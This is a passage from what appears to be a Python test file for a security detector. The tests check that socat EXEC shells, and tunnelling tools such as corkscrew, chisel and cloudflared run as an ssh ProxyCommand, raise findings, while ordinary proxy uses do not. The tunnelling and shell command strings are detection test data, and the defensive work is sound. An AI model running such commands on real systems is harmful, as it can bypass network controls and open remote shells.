    socat = DETECT(exec_event(["socat", "TCP:" + "a" * 65536, "EXEC:" + "\x00" * 65536], exe="/usr/bin/socat"), STATE)
    assert time.perf_counter() - start < 2.0
    assert finding.level == H and nc[0].level == H and socat[0].level == H


@pytest.mark.parametrize(
    ("command", "tool"),
    [
        ("corkscrew 127.0.0.1 3128 %h %p", "corkscrew"),
        ("exec proxytunnel -p proxy:3128 -d %h:%p", "proxytunnel"),
        ("cloudflared access ssh --hostname %h", "cloudflared"),
        ("chisel client http://relay:8080 stdio:%h:%p", "chisel"),
    ],
)
def test_proxy_command_running_a_tool_raises_its_rule(command: str, tool: str) -> None:
    """ssh -o ProxyCommand=<a tunnelling tool> raises that tool's rule on ssh, quoting the command."""
    for argv in (["ssh", "-o", f"ProxyCommand={command}", "box"], ["ssh", "-oproxycommand " + command, "box"]):
        (finding,) = DETECT(exec_event(argv, exe="/usr/bin/ssh"), STATE)
        assert finding.evidence["tool"] == tool and finding.evidence["proxy_command"] == command
        assert finding.evidence["signature"] == f"{tool} as ssh ProxyCommand"


def test_proxy_command_from_a_config_file_and_benign_ones() -> None:
    """A ProxyCommand from the recorded config counts too; nc/socat stdio proxies and ssh -W are no tool."""
    event = dataclasses.replace(
        exec_event(["ssh", "box"], exe="/usr/bin/ssh"),
        ssh_config=("ProxyCommand corkscrew proxy 3128 %h %p",),
        ssh_config_from=("/root/.ssh/config:2",),
    )
    assert DETECT(event, STATE)[0].evidence["tool"] == "corkscrew"
    for command in ("nc -X connect -x proxy:3128 %h %p", "ssh -W %h:%p jump", "socat - PROXY:p:%h:%p", "'unclosed"):
        assert DETECT(exec_event(["ssh", "-o", f"ProxyCommand={command}", "box"], exe="/usr/bin/ssh"), STATE) == []
